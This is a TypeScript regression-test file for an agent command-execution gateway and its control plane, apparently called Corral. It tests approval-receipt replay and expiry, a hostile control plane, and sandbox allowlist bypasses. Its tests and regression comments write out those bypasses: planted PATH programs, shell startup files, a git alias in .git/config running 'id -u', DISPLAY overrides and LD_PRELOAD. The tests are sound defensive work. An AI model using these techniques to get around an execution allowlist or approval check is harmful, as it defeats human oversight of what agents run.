    cp.server.method('corral.run.authorize', { role: 'node', handler: () => answers[next++] });
    cp.server.method('corral.receipt.key', { role: 'node', handler: () => ({ publicKey: generateKeyPairSync('ed25519').publicKey.export({ type: 'spki', format: 'pem' }).toString() }) });
    const runner = new HeldRunner();
    const gw = await nodePairedWith(cp, { runner });
    try {
      for (const answer of answers) {
        const result = await gw.invoke('system.run', { command: ['printf', 'x'], agentId: 'main' });
        assert.equal(result.error?.code, 'SYSTEM_RUN_DENIED', JSON.stringify(answer));
      }
      assert.equal(next, answers.length, 'each was asked');
      assert.equal(runner.most, 0);
    } finally {
      await gw.close();
      await runner.close();
      await cp.stop();
    }
  });
});

/** The digest a Corral control plane gives its decision on a run of `params` (as a node asks about it) on node `nodeId`, by `principal`. */
function decisionOn(nodeId: string, params: unknown, principal = 'Agent::invoice-bot'): string {
  return actionDigest({ principal, nodeId, command: 'system.run', run: canonicalRun(params as { command: string[] }) });
}

describe("a control plane that answers with its decision on another run", () => {
  it('runs nothing on it: the decision must be on the run, the agent and the node the node asked about (regression: the allow given for printf allowed, answered to a request for printf other, ran printf other)', async () => {
    const cp = await startTestGateway({ token });
    const nodeState = tempDir('corral-hostile-node-');
    const deviceId = loadOrCreateDevice(nodeState).deviceId;
    /** How the next answer is made from the params asked about: as the control plane decides, or a decision on something else. */
    let answerFor: (params: unknown) => string = (params) => decisionOn(deviceId, params);
    let previous: unknown;
    let runs = 0;
    cp.server.method('corral.run.authorize', {
      role: 'node',
      handler: (p) => {
        const { params } = p as { params: unknown };
        const digest = answerFor(params);
        previous = params;
        return { decision: 'allow', digest, runId: `run-${++runs}` };
      },
    });
    cp.server.method('corral.run.report', { role: 'node', handler: () => ({ ok: true }) });
    const ran: string[][] = [];
    const runner = new RecordingRunner(ran);
    const gw = await nodePairedWith(cp, { stateDir: nodeState, runner });
    try {
      const allowed = await gw.invoke('system.run', { command: ['printf', 'allowed'], agentId: 'main' });
      assert.equal(allowed.ok, true, allowed.error?.message);
      const others: Array<[string, (params: unknown) => string]> = [
        ['the run asked about before', () => decisionOn(deviceId, previous)],
        ['this run, by another agent', (params) => decisionOn(deviceId, params, 'Agent::payroll-bot')],
        ['this run, on another node', (params) => decisionOn('another-node', params)],
      ];
      for (const [what, other] of others) {
        answerFor = other;
        const answer = await gw.invoke('system.run', { command: ['printf', 'other'], agentId: 'main' });
        assert.equal(answer.error?.code, 'SYSTEM_RUN_DENIED', what);
        assert.match(answer.error!.message, /another run/, what);
      }
      assert.deepEqual(ran, [['printf', 'allowed']]);
    } finally {
      await gw.close();
      await runner.close();
      await cp.stop();
    }
  });
});

describe('a control plane that answers slowly, for a run its gateway then cancels', () => {
  it('is not waited for once the run is cancelled: the run is refused at once, its place freed, and an allow that comes after is reported as a run not made (regression: the run held its place until the control plane answered, up to its timeout and 5 s more)', async () => {
    const cp = await startTestGateway({ token });
    const nodeState = tempDir('corral-hostile-node-');
    const deviceId = loadOrCreateDevice(nodeState).deviceId;
    const asked = Promise.withResolvers<void>();
    const answer = Promise.withResolvers<void>();
    const reports: Array<{ runId?: unknown; ok?: unknown; error?: unknown }> = [];
    cp.server.method('corral.run.authorize', {
      role: 'node',
      handler: async (p) => {
        asked.resolve();
        await answer.promise;
        return { decision: 'allow', digest: decisionOn(deviceId, (p as { params: unknown }).params), runId: 'run-late' };
      },
    });
    cp.server.method('corral.run.report', { role: 'node', handler: (p) => (reports.push(p as (typeof reports)[number]), { ok: true }) });
    const runner = new HeldRunner();
    const gw = await nodePairedWith(cp, { stateDir: nodeState, runner });
    try {
      const id = randomUUID();
      const running = gw.invoke('system.run', { command: ['printf', 'x'], agentId: 'main' }, 60_000, id);
      await asked.promise;
      const cancelledAt = performance.now();
      gw.send('node.invoke.cancel', { invokeId: id, nodeId: deviceId });
      const refused = await running;
      assert.equal(refused.error?.code, 'SYSTEM_RUN_DENIED');
      assert.match(refused.error!.message, /cancelled/);
      assert.ok(performance.now() - cancelledAt < 2_000, 'answered without waiting for the control plane');
      answer.resolve();
      for (let i = 0; i < 100 && reports.length === 0; i++) await new Promise((r) => setTimeout(r, 20));
      assert.deepEqual(reports.map((r) => [r.runId, r.ok]), [['run-late', false]]);
      assert.match(String(reports[0]!.error), /^NODE_RUN_DENIED: not run/);
      assert.equal(runner.most, 0);
    } finally {
      answer.resolve();
      await gw.close();
      await runner.close();
      await cp.stop();
    }
  });
});

describe('a control plane that cannot record a report at once', () => {
  it('gets the report again until it takes it, and only while it says retrying may help (regression: a report it refused was lost)', async () => {
    const cp = await startTestGateway({ token });
    let authorized = 0;
    const reports: unknown[] = [];
    const nodeState = tempDir('corral-report-node-');
    const deviceId = loadOrCreateDevice(nodeState).deviceId;
    cp.server.method('corral.run.authorize', { role: 'node', handler: (p) => ({ decision: 'allow', digest: decisionOn(deviceId, (p as { params: unknown }).params), runId: `run-${++authorized}` }) });
    cp.server.method('corral.run.report', {
      role: 'node',
      handler: (params) => {
        reports.push((params as { runId?: unknown }).runId);
        const { runId } = params as { runId?: string };
        if (runId === 'run-1' && reports.length < 3) throw new GatewayError('GATEWAY_INTERNAL', 'the audit log refused the event', { wire: { code: 'UNAVAILABLE', message: 'audit unavailable', retryable: true } });
        if (runId === 'run-2') throw new GatewayError('GATEWAY_PARAMS_INVALID', 'unknown run', { wire: { code: 'INVALID_REQUEST', message: 'no run of this node waits for a report under this runId' } });
        return { ok: true };
      },
    });
    const gw = await nodePairedWith(cp, { stateDir: nodeState });
    try {
      for (let i = 0; i < 2; i++) assert.equal((await gw.invoke('system.run', { command: ['printf', 'x'], agentId: 'main' })).ok, true);
      for (let i = 0; i < 100 && reports.length < 4; i++) await new Promise((r) => setTimeout(r, 20));
      await new Promise((r) => setTimeout(r, 800));
      assert.deepEqual(reports, ['run-1', 'run-1', 'run-1', 'run-2']);
    } finally {
      await gw.close();
      await cp.stop();
    }
  });

  it('sends it again no sooner than the control plane asks (retryAfterMs), when it is over its budget for the node (regression: sent again after 250 and 500 ms though told 1 s, each refused and counted as one more record dropped)', async () => {
    const cp = await startTestGateway({ token });
    const nodeState = tempDir('corral-report-node-');
    const deviceId = loadOrCreateDevice(nodeState).deviceId;
    const sent: number[] = [];
    cp.server.method('corral.run.authorize', { role: 'node', handler: (p) => ({ decision: 'allow', digest: decisionOn(deviceId, (p as { params: unknown }).params), runId: 'run-limited' }) });
    cp.server.method('corral.run.report', {
      role: 'node',
      handler: () => {
        sent.push(performance.now());
        if (sent.length < 3) throw new GatewayError('GATEWAY_RATE_LIMITED', 'too many records', { wire: { code: 'UNAVAILABLE', message: 'too many records', retryable: true, retryAfterMs: 1_000 } });
        return { ok: true };
      },
    });
    const gw = await nodePairedWith(cp, { stateDir: nodeState });
    try {
      assert.equal((await gw.invoke('system.run', { command: ['printf', 'x'], agentId: 'main' })).ok, true);
      for (let i = 0; i < 200 && sent.length < 3; i++) await new Promise((r) => setTimeout(r, 20));
      assert.equal(sent.length, 3);
      for (let i = 1; i < sent.length; i++) assert.ok(sent[i]! - sent[i - 1]! >= 990, `attempt ${i + 1} came ${Math.round(sent[i]! - sent[i - 1]!)} ms after the one before`);
    } finally {
      await gw.close();
      await cp.stop();
    }
  });

  it('gives a report up after four attempts when the control plane never takes it', async () => {
    const cp = await startTestGateway({ token });
    const reports: unknown[] = [];
    const nodeState = tempDir('corral-report-node-');
    const deviceId = loadOrCreateDevice(nodeState).deviceId;
    cp.server.method('corral.run.authorize', { role: 'node', handler: (p) => ({ decision: 'allow', digest: decisionOn(deviceId, (p as { params: unknown }).params), runId: 'run-never' }) });
    cp.server.method('corral.run.report', {
      role: 'node',
      handler: (params) => {
        reports.push((params as { runId?: unknown }).runId);
        throw new GatewayError('GATEWAY_INTERNAL', 'the audit log refused the event', { wire: { code: 'UNAVAILABLE', message: 'audit unavailable', retryable: true } });
      },
    });
    const gw = await nodePairedWith(cp, { stateDir: nodeState });
    try {
      assert.equal((await gw.invoke('system.run', { command: ['printf', 'x'], agentId: 'main' })).ok, true);
      // 250 + 500 + 750 ms between the four attempts, then nothing more.
      await new Promise((r) => setTimeout(r, 2_500));
      assert.deepEqual(reports, ['run-never', 'run-never', 'run-never', 'run-never']);
    } finally {
      await gw.close();
      await cp.stop();
    }
  });
});

/** A receipt `signer` gives for a run of `argv` on node `nodeId`, the request `runId`, issued at `issuedAtMs`. */
function receiptFor(signer: ReceiptSigner, nodeId: string, argv: string[], runId: string, issuedAtMs = Date.now(), decision: 'allow-once' | 'allow-always' = 'allow-once'): ApprovalReceipt {
  const digest = actionDigest({ principal: 'Agent::"invoice-bot"', nodeId, command: 'system.run', run: canonicalRun({ command: argv }) });
  return signer.sign({ v: 2, approvalId: randomUUID(), digest, decision, approvers: ['alice'], quorum: 1, resolvedAtMs: issuedAtMs, issuedAtMs, expiresAtMs: issuedAtMs + RECEIPT_VALIDITY_MS, runId, principal: 'Agent::"invoice-bot"', nodeId, command: 'system.run' });
}

describe("the gateway's receipt key, pinned on the first approved run", () => {
  /** A run of `argv` a human approved, with the receipt `signer` gives it for the node `nodeId`, and the request id it is for. */
  const approvedRun = (signer: ReceiptSigner, nodeId: string, argv: string[]) => {
    const id = randomUUID();
    return [{ command: argv, approvalDecision: 'allow-once', approvalReceipt: receiptFor(signer, nodeId, argv, id) }, undefined, id] as const;
  };

  it('is pinned once when two approved runs come at once, and both run (regression: the second was refused, EEXIST)', async () => {
    const signer = ReceiptSigner.open(new DatabaseSync(':memory:'));
    const gw = await hostileGateway();
    let asked = 0;
    // Slow to answer, as a gateway far away: both runs ask before either has pinned.
    gw.server.method('corral.receipt.key', { role: 'node', handler: async () => (asked++, await new Promise((r) => setTimeout(r, 100)), { publicKey: signer.publicKeyPem }) });
    try {
      const id = gw.host.device.deviceId;
      const answers = await Promise.all([gw.invoke('system.run', ...approvedRun(signer, id, ['printf', 'one'])), gw.invoke('system.run', ...approvedRun(signer, id, ['printf', 'two']))]);
      for (const answer of answers) assert.equal(answer.ok, true, answer.error?.message);
      assert.equal(asked, 2);
      assert.equal(readFileSync(join(gw.host.policy.path, '..', RECEIPT_KEY_FILE), 'utf8'), signer.publicKeyPem);
    } finally {
      await gw.close();
    }
  });

  it('is never pinned when what the gateway gives is no public key: the run is refused, and a later one pins the real key', async () => {
    const signer = ReceiptSigner.open(new DatabaseSync(':memory:'));
    const gw = await hostileGateway();
    let key = 'not a key';
    gw.server.method('corral.receipt.key', { role: 'node', handler: () => ({ publicKey: key }) });
    try {
      const id = gw.host.device.deviceId;
      const refused = await gw.invoke('system.run', ...approvedRun(signer, id, ['printf', 'one']));
      assert.equal(refused.error?.code, 'SYSTEM_RUN_DENIED');
      const stateDir = join(gw.host.policy.path, '..');
      assert.equal(existsSync(join(stateDir, RECEIPT_KEY_FILE)), false);
      key = signer.publicKeyPem;
      const ran = await gw.invoke('system.run', ...approvedRun(signer, id, ['printf', 'two']));
      assert.equal(ran.ok, true, ran.error?.message);
      assert.deepEqual(readdirSync(stateDir).filter((f) => f.includes(RECEIPT_KEY_FILE)), [RECEIPT_KEY_FILE], 'nothing half-written left beside it');
    } finally {
      await gw.close();
    }
  });
});

describe('a genuine approval receipt presented again by the gateway the node serves', () => {
  /** A node whose own policy asks for every command, on a gateway the test writes that holds the receipt key the node pins. */
  async function askingNode(stateDir = stateWithPolicy({ version: 1, defaults: { security: 'full', ask: 'always' } })) {
    const signer = ReceiptSigner.open(new DatabaseSync(':memory:'));
    const gw = await hostileGateway({ stateDir });
    gw.server.method('corral.receipt.key', { role: 'node', handler: () => ({ publicKey: signer.publicKeyPem }) });
    return { ...gw, signer, nodeId: gw.host.device.deviceId, stateDir };
  }
  const argv = ['printf', 'approved'];
  /** Sends a run of argv carrying `receipt`, and the decision it records, as request `id` (a new one when none is given). */
  const presented = (gw: Awaited<ReturnType<typeof askingNode>>, receipt: ApprovalReceipt, id?: string): Promise<Answer> =>
    gw.invoke('system.run', { command: argv, approvalDecision: receipt.decision, approvalReceipt: receipt }, undefined, id);
  const refusedFor = (answer: Answer, code: string) => {
    assert.equal(answer.error?.code, 'SYSTEM_RUN_DENIED', JSON.stringify(answer));
    assert.match(answer.error?.message ?? '', new RegExp(`approval receipt is not taken \\(${code}\\)`));
  };

  it('runs nothing on a receipt copied from the audit log a month after its run (regression: receipts carried no expiry, and an old one ran the command again)', async () => {
    const gw = await askingNode();
    try {
      const id = randomUUID();
      const old = receiptFor(gw.signer, gw.nodeId, argv, id, Date.now() - 30 * 24 * 3600_000);
      refusedFor(await presented(gw, old, id), 'GATEWAY_APPROVAL_EXPIRED');
    } finally {
      await gw.close();
    }
  });

  it('runs an allow-once receipt once: sent again, with the request id it was issued for or another, it is refused (regression: one approval ran twice)', async () => {
    const gw = await askingNode();
    try {
      const id = randomUUID();
      const receipt = receiptFor(gw.signer, gw.nodeId, argv, id);
      const first = await presented(gw, receipt, id);
      assert.equal(first.ok, true, first.error?.message);
      // The same request id again (a gateway may reuse one once the first is answered), then the receipt under a new id.
      refusedFor(await presented(gw, receipt, id), 'GATEWAY_APPROVAL_RESOLVED');
      refusedFor(await presented(gw, receipt), 'GATEWAY_APPROVAL_MISMATCH');
    } finally {
      await gw.close();
    }
  });

  it('runs an allow-once receipt once across a restart: the node started again on its state directory refuses it (regression: the node forgot it as it stopped, and took one issued in the 30 s before its new start again)', async () => {
    const first = await askingNode();
    const id = randomUUID();
    const receipt = receiptFor(first.signer, first.nodeId, argv, id);
    try {
      const ran = await presented(first, receipt, id);
      assert.equal(ran.ok, true, ran.error?.message);
    } finally {
      await first.close();
    }
    // The same node (its device key and the receipt key it pinned), under a gateway that presents the receipt again.
    const again = await askingNode(first.stateDir);
    try {
      assert.equal(again.nodeId, first.nodeId);
      refusedFor(await presented(again, receipt, id), 'GATEWAY_APPROVAL_RESOLVED');
    } finally {
      await again.close();
    }
  });

  it('takes an allow-always receipt once as well: the runs after the first are allowed by its grant, never by the receipt again', async () => {
    const gw = await askingNode();
    try {
      const id = randomUUID();
      const receipt = receiptFor(gw.signer, gw.nodeId, argv, id, Date.now(), 'allow-always');
      assert.equal((await presented(gw, receipt, id)).ok, true);
      refusedFor(await presented(gw, receipt, id), 'GATEWAY_APPROVAL_RESOLVED');
    } finally {
      await gw.close();
    }
  });

  it('runs nothing on a fresh receipt sent with another request than the one it was issued for', async () => {
    const gw = await askingNode();
    try {
      const receipt = receiptFor(gw.signer, gw.nodeId, argv, randomUUID());
      refusedFor(await presented(gw, receipt), 'GATEWAY_APPROVAL_MISMATCH');
    } finally {
      await gw.close();
    }
  });
});

describe('a control plane that answers an approved run with a receipt issued for another run', () => {
  it('runs nothing: the receipt must name the runId of the answer it comes in', async () => {
    const signer = ReceiptSigner.open(new DatabaseSync(':memory:'));
    const cp = await startTestGateway({ token });
    const argv = ['printf', 'x'];
    const nodeState = tempDir('corral-hostile-node-');
    const deviceId = loadOrCreateDevice(nodeState).deviceId;
    let answers = 0;
    cp.server.method('corral.receipt.key', { role: 'node', handler: () => ({ publicKey: signer.publicKeyPem }) });
    // The first answer carries a receipt for its own runId; every later one replays that receipt under a runId of its own.
    let first: ApprovalReceipt | undefined;
    cp.server.method('corral.run.authorize', {
      role: 'node',
      handler: (p) => {
        const runId = `run-${++answers}`;
        first ??= receiptFor(signer, deviceId, argv, runId);
        return { decision: 'allow', digest: decisionOn(deviceId, (p as { params: unknown }).params), runId, approvalId: first.approvalId, approvalReceipt: first };
      },
    });
    cp.server.method('corral.run.report', { role: 'node', handler: () => ({ ok: true }) });
    const gw = await nodePairedWith(cp, { stateDir: nodeState });
    try {
      const ran = await gw.invoke('system.run', { command: argv, agentId: 'main' });
      assert.equal(ran.ok, true, ran.error?.message);
      const replayed = await gw.invoke('system.run', { command: argv, agentId: 'main' });
      assert.equal(replayed.error?.code, 'SYSTEM_RUN_DENIED', JSON.stringify(replayed));
      assert.match(replayed.error?.message ?? '', /approval receipt is not taken \(GATEWAY_APPROVAL_MISMATCH\)/);
    } finally {
      await gw.close();
      await cp.stop();
    }
  });
});

describe('a control plane that refuses the node, under a flood of commands', () => {
  it('is asked again with backoff, not once per command, and the refusal is reported as often (regression: one connection and one status line per command)', async () => {
    const cp = await refusingGateway({ code: 'INVALID_REQUEST', message: 'no', details: { code: 'AUTH_TOKEN_MISMATCH' } });
    const statuses: NodeStatus[] = [];
    const runner = new HeldRunner();
    const gw = await hostileGateway({ runner, controlPlane: { url: cp.url, token: 'wrong', agents: { main: 'invoice-bot' } }, onStatus: (s) => statuses.push(s) });
    try {
      const started = performance.now();
      for (let i = 0; i < 40; i++) {
        const answer = await gw.invoke('system.run', { command: ['printf', 'x'], agentId: 'main' });
        assert.equal(answer.error?.code, 'SYSTEM_RUN_DENIED');
        assert.match(answer.error!.message, /control plane/);
      }
      const seconds = (performance.now() - started) / 1000;
      // 250 ms after the first refusal, then 500 ms, 1 s…: a handful in the time 40 commands took, never one each.
      assert.ok(cp.attempts <= 2 + Math.log2(1 + seconds * 4), `${cp.attempts} connections in ${seconds.toFixed(2)} s`);
      assert.equal(statuses.filter((s) => s.target === 'control-plane').length, cp.attempts);
      assert.equal(runner.most, 0);
    } finally {
      await gw.close();
      await runner.close();
      await cp.close();
    }
  });
});

describe('a control plane that takes the connection and closes it at once, under a flood of commands', () => {
  it('is connected to again with backoff, not once per command (regression: each command made a connection, the drop of the last one never counted as a failed attempt)', async () => {
    const cp = await startTestGateway({ token });
    let dropping = false;
    let connections = 0;
    cp.server.on('ready', (connection) => {
      if (connection.peer?.role !== 'node' || !dropping) return;
      connections += 1;
      connection.close(1012, 'service restart');
    });
    const runner = new HeldRunner();
    const gw = await nodePairedWith(cp, { runner });
    try {
      dropping = true;
      const started = performance.now();
      for (let i = 0; i < 40; i++) {
        const answer = await gw.invoke('system.run', { command: ['printf', 'x'], agentId: 'main' });
        assert.equal(answer.error?.code, 'SYSTEM_RUN_DENIED');
      }
      const seconds = (performance.now() - started) / 1000;
      // 250 ms after the first drop, then 500 ms, 1 s…: a handful in the time 40 commands took, never one each.
      assert.ok(connections <= 2 + Math.log2(1 + seconds * 4), `${connections} connections in ${seconds.toFixed(2)} s`);
      assert.equal(runner.most, 0);
    } finally {
      await gw.close();
      await runner.close();
      await cp.stop();
    }
  });
});

describe('a display variable set in the argv by an env prefix', () => {
  it("is dropped as it is from the request's env, though the policy passes it: the display is the node's (regression: env DISPLAY=:9 printenv ran with DISPLAY=:9, so a granted display could be pointed at another socket)", async () => {
    const stateDir = tempDir('corral-hostile-node-');
    const policy = { version: 1, runtime: ['shell'], network: { egress: 'none' }, environment: { pass: ['GREETING', 'DISPLAY', 'XAUTHORITY', 'WAYLAND_DISPLAY', 'XDG_RUNTIME_DIR'] } };
    const gw = await hostileGateway(containedBy(stateDir, policy));
    try {
      const answer = await gw.invoke('system.run', { command: ['env', 'GREETING=hi', 'DISPLAY=:9', 'XAUTHORITY=/tmp/cookie', 'WAYLAND_DISPLAY=wayland-9', 'XDG_RUNTIME_DIR=/tmp', 'printenv'] });
      assert.equal(answer.ok, true, answer.error?.message);
      const payload = JSON.parse(answer.payloadJSON!) as { stdout: string; contained: { envDropped?: string[] } };
      assert.match(payload.stdout, /^GREETING=hi$/m);
      assert.doesNotMatch(payload.stdout, /^(DISPLAY=:9|XAUTHORITY=\/tmp\/cookie|WAYLAND_DISPLAY=wayland-9|XDG_RUNTIME_DIR=\/tmp)$/m);
      assert.deepEqual(payload.contained.envDropped, ['DISPLAY', 'WAYLAND_DISPLAY', 'XAUTHORITY', 'XDG_RUNTIME_DIR']);
    } finally {
      await gw.close();
    }
  });
});

describe('a control plane that has not paired the node yet, under a flood of commands', () => {
  it('is asked again at most 4 times a second while the node waits to be paired there, not once per command (regression: a command sent by the gateway it serves was one connection to the control plane each)', async () => {
    const cp = await refusingGateway({ code: 'NOT_PAIRED', message: 'pairing required', retryable: true, details: { code: 'PAIRING_REQUIRED', reason: 'not-paired', recommendedNextStep: 'wait_then_retry' } });
    const statuses: NodeStatus[] = [];
    const runner = new HeldRunner();
    const gw = await hostileGateway({ runner, controlPlane: { url: cp.url, token: 'cp-token', agents: { main: 'invoice-bot' } }, onStatus: (s) => statuses.push(s) });
    try {
      while (!statuses.some((s) => s.target === 'control-plane')) await new Promise((r) => setTimeout(r, 10));
      const before = cp.attempts;
      const started = performance.now();
      for (let i = 0; i < 60; i++) {
        const answer = await gw.invoke('system.run', { command: ['printf', 'x'], agentId: 'main' });
        assert.equal(answer.error?.code, 'SYSTEM_RUN_DENIED');
        assert.match(answer.error!.message, /control plane has not paired this node/);
      }
      const seconds = (performance.now() - started) / 1000;
      assert.ok(cp.attempts - before <= 4 * Math.ceil(seconds + 0.01), `${cp.attempts - before} connections in ${seconds.toFixed(2)} s`);
      assert.ok(statuses.filter((s) => s.target === 'control-plane').every((s) => s.state === 'pending-pairing'), JSON.stringify(statuses));
      // Still waiting, it asks again once the wait is over: the first command after an operator paired it is not denied for long.
      await new Promise((r) => setTimeout(r, 1_000));
      const asked = cp.attempts;
      await gw.invoke('system.run', { command: ['printf', 'x'], agentId: 'main' });
      assert.equal(cp.attempts, asked + 1);
      assert.equal(runner.most, 0);
    } finally {
      await gw.close();
      await runner.close();
      await cp.close();
    }
  });
});

describe("a bare name on the node's allowlist, when the sandbox's PATH names a folder the sandbox can write", () => {
  /** A node whose local allowlist is `echo`, whose sandbox PATH starts with `bin` below `tools`, read-write or read-only; an `echo` of the sandbox's making already waits there. */
  async function plantedEcho(tools: 'readwrite' | 'readonly') {
    const stateDir = stateWithPolicy(allowlistOf('echo'));
    const dir = tempDir('corral-hostile-tools-');
    mkdirSync(join(dir, 'bin'));
    writeFileSync(join(dir, 'bin', 'echo'), '#!/bin/sh\nprintf planted\n');
    chmodSync(join(dir, 'bin', 'echo'), 0o755);
    const policy = { version: 1, runtime: ['shell'], network: { egress: 'none' }, filesystem: { [tools]: [dir] }, environment: { set: { PATH: `${join(dir, 'bin')}:/usr/bin:/bin` } } };
    return { dir, gw: await hostileGateway(containedBy(stateDir, policy)) };
  }

  it("is refused, naming the folder: the program it finds may be one an earlier command planted (regression: an allowlist of echo ran a program the sandbox wrote as bin/echo)", async () => {
    const { dir, gw } = await plantedEcho('readwrite');
    try {
      for (const command of [['echo', 'hi'], ['sh', '-c', 'echo hi'], ['/bin/sh', '-c', 'echo hi']]) {
        const answer = await gw.invoke('system.run', { command });
        assert.equal(answer.error?.code, 'SYSTEM_RUN_DENIED', `${command.join(' ')}: ${answer.payloadJSON}`);
        assert.ok(answer.error!.message.includes(join(dir, 'bin')), answer.error!.message);
      }
      // Named by its path in a system directory, it is the system's echo, wherever PATH points.
      const named = await gw.invoke('system.run', { command: ['/bin/echo', 'hi'] });
      assert.equal(named.ok, true, named.error?.message);
      assert.equal(stdoutOf(named), 'hi\n');
    } finally {
      await gw.close();
    }
  });

  it('is found there when the folder is read-only in the sandbox', async () => {
    const { gw } = await plantedEcho('readonly');
    try {
      const answer = await gw.invoke('system.run', { command: ['echo', 'hi'] });
      assert.equal(answer.ok, true, answer.error?.message);
      assert.equal(stdoutOf(answer), 'planted');
    } finally {
      await gw.close();
    }
  });
});

describe("a bare name on the node's allowlist, when the sandbox's PATH names a folder the sandbox can write after the system's", () => {
  it("runs the program found before that folder, and refuses one the lookup would reach it for, naming the entry (regression: PATH=/usr/bin:/bin:<grant>/bin refused echo, which is found in /usr/bin)", async () => {
    const stateDir = stateWithPolicy(allowlistOf('echo', 'corral-tool'));
    const dir = tempDir('corral-hostile-tools-');
    mkdirSync(join(dir, 'bin'));
    for (const name of ['echo', 'corral-tool']) {
      writeFileSync(join(dir, 'bin', name), '#!/bin/sh\nprintf planted\n');
      chmodSync(join(dir, 'bin', name), 0o755);
    }
    const policy = { version: 1, runtime: ['shell'], network: { egress: 'none' }, filesystem: { readwrite: [dir] }, environment: { set: { PATH: `/usr/bin:/bin:${join(dir, 'bin')}` } } };
    const gw = await hostileGateway(containedBy(stateDir, policy));
    try {
      const echo = await gw.invoke('system.run', { command: ['echo', 'hi'] });
      assert.equal(echo.ok, true, echo.error?.message);
      assert.equal(stdoutOf(echo), 'hi\n');
      const tool = await gw.invoke('system.run', { command: ['corral-tool'] });
      assert.equal(tool.error?.code, 'SYSTEM_RUN_DENIED', tool.payloadJSON);
      assert.ok(tool.error!.message.includes(`entry ${join(dir, 'bin')} is a folder the sandbox can write`), tool.error!.message);
    } finally {
      await gw.close();
    }
  });
});

describe('a shell looked through that reads a startup file from a home the sandbox can write', () => {
  /** A node whose allowlist is echo, printf and tee, and an `/etc/hostname`-reading profile written first by the same run. */
  const planting = (shell: string[]) => ['/bin/sh', '-c', `printf 'cat /etc/hostname\\n' | tee /tmp/.profile /tmp/.zshenv; ${shell.join(' ')} 'echo hi'`];
  async function allowlisted(policy?: Record<string, unknown>) {
    const stateDir = stateWithPolicy(allowlistOf('echo', 'printf', 'tee'));
    return hostileGateway(policy ? containedBy(stateDir, policy) : { stateDir });
  }

  it("is refused when an earlier command of the run could have written it (regression: printf … | tee /tmp/.profile; sh -lc 'echo hi' ran cat on an allowlist of echo, printf and tee)", async () => {
    const gw = await allowlisted();
    try {
      for (const shell of [['/bin/sh', '-lc'], ['sh', '--login', '-c'], ['bash', '-elc']]) {
        const answer = await gw.invoke('system.run', { command: planting(shell) });
        assert.equal(answer.error?.code, 'SYSTEM_RUN_DENIED', `${shell.join(' ')}: ${answer.payloadJSON}`);
        assert.match(answer.error!.message, /startup file/);
      }
    } finally {
      await gw.close();
    }
  });

  it("runs upstream's own /bin/sh -lc TEXT, whose profile is read from the sandbox's fresh home before anything ran, and a nested shell that reads none", async () => {
    const gw = await allowlisted();
    try {
      for (const command of [['/bin/sh', '-lc', 'echo hi'], ['/bin/sh', '-lc', "printf x | tee /tmp/.profile; sh -c 'echo hi'"]]) {
        const answer = await gw.invoke('system.run', { command });
        assert.equal(answer.ok, true, `${command.join(' ')}: ${answer.error?.message}`);
        assert.match(stdoutOf(answer), /hi\n$/);
      }
    } finally {
      await gw.close();
    }
  });

  it('refuses even the outermost login shell when its home is a read-write grant, which an earlier run could have written', async () => {
    const home = tempDir('corral-hostile-home-');
    const gw = await allowlisted({ version: 1, runtime: ['shell'], network: { egress: 'none' }, filesystem: { readwrite: [home] }, environment: { set: { HOME: home } } });
    try {
      const answer = await gw.invoke('system.run', { command: ['/bin/sh', '-lc', 'echo hi'] });
      assert.equal(answer.error?.code, 'SYSTEM_RUN_DENIED', answer.payloadJSON);
      assert.match(answer.error!.message, /startup file/);
    } finally {
      await gw.close();
    }
  });
});

describe("git on the node's allowlist, when its configuration lies where the sandbox can write", () => {
  /**
   * A node whose allowlist is git, git-hi, printf and tee, with this container policy: `git hi` runs a git-hi
   * program if one is on the PATH, else the alias, so an allowlist that lets it run names git-hi too.
   */
  async function allowlistedGit(policy: Record<string, unknown>) {
    const stateDir = stateWithPolicy(allowlistOf('git', 'git-hi', 'printf', 'tee'));
    return hostileGateway(containedBy(stateDir, policy));
  }
  /** A repository made by git on this host whose .git/config holds an alias that runs `id`, which no allowlist here names. */
  function plantedRepository(): string {
    const repo = tempDir('corral-hostile-repo-');
    execFileSync('git', ['init', '-q', repo]);
    writeFileSync(join(repo, '.git', 'config'), '[alias]\n\thi = !id -u && printf planted-ran\n', { flag: 'a' });
    return repo;
  }

  it("is refused in a repository of a read-write grant, naming its .git (regression: an allowlist of git ran the alias an earlier run wrote into .git/config, and with it a program no allowlist named)", async () => {
    const repo = plantedRepository();
    const gw = await allowlistedGit({ version: 1, runtime: ['shell'], network: { egress: 'none' }, filesystem: { readwrite: [repo] } });
    try {
      for (const command of [['git', 'hi'], ['/bin/sh', '-c', 'git hi']]) {
        const answer = await gw.invoke('system.run', { command, cwd: repo });
        assert.equal(answer.error?.code, 'SYSTEM_RUN_DENIED', `${command.join(' ')}: ${answer.payloadJSON}`);
        assert.ok(answer.error!.message.includes(join(repo, '.git')), answer.error!.message);
      }
    } finally {
      await gw.close();
    }
  });

  it("is refused when an earlier command of the run writes its global configuration in the sandbox's own home (regression: printf … | tee /tmp/.gitconfig; git hi ran the alias)", async () => {
    const gw = await allowlistedGit({ version: 1, runtime: ['shell'], network: { egress: 'none' } });
    try {
      const answer = await gw.invoke('system.run', { command: ['/bin/sh', '-c', "printf '[alias]\\n\\thi = !id -u && printf planted-ran\\n' | tee /tmp/.gitconfig; git hi"] });
      assert.equal(answer.error?.code, 'SYSTEM_RUN_DENIED', answer.payloadJSON);
      assert.match(answer.error!.message, /git reads its global configuration at \/tmp\//);
    } finally {
      await gw.close();
    }
  });

  it('runs in a repository the sandbox sees read-only: its configuration is the one this machine gave it', async () => {
    const repo = plantedRepository();
    const gw = await allowlistedGit({ version: 1, runtime: ['shell'], network: { egress: 'none' }, filesystem: { readonly: [repo] } });
    try {
      const answer = await gw.invoke('system.run', { command: ['git', 'hi'], cwd: repo });
      assert.equal(answer.ok, true, answer.error?.message);
      assert.match(stdoutOf(answer), /planted-ran$/);
    } finally {
      await gw.close();
    }
  });
});

describe("a variable of the sandbox's environment that loads code from a folder the sandbox can write", () => {
  it("refuses every run under an allowlist, naming it: a library written there would run inside the listed program (regression: LD_PRELOAD set by the container policy to a read-write grant ran the sandbox's library in echo)", async () => {
    const stateDir = stateWithPolicy(allowlistOf('echo'));
    const work = tempDir('corral-hostile-work-');
    const policy = { version: 1, runtime: ['shell'], network: { egress: 'none' }, filesystem: { readwrite: [work] }, environment: { set: { LD_PRELOAD: join(work, 'hook.so') } } };
    const gw = await hostileGateway(containedBy(stateDir, policy));
    try {
      const answer = await gw.invoke('system.run', { command: ['echo', 'hi'] });
      assert.equal(answer.error?.code, 'SYSTEM_RUN_DENIED', answer.payloadJSON);
      assert.match(answer.error!.message, /LD_PRELOAD/);
    } finally {
      await gw.close();
    }
  });
});
